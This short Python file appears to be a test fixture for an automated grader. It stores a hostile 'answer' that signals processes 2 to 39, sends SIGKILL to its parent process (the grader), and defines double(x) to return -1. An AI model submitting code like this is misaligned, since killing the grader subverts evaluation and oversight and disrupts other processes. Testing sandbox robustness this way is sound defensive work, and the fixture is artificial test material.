"""The grader shot down, or anybody else whom a signal reaches."""

ANSWER = r"""
import os
import signal

for process in range(2, 40):
    if process != os.getpid():
        try:
            os.kill(process, signal.SIGUSR1)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print(error)


def double(x):
    return -1
"""
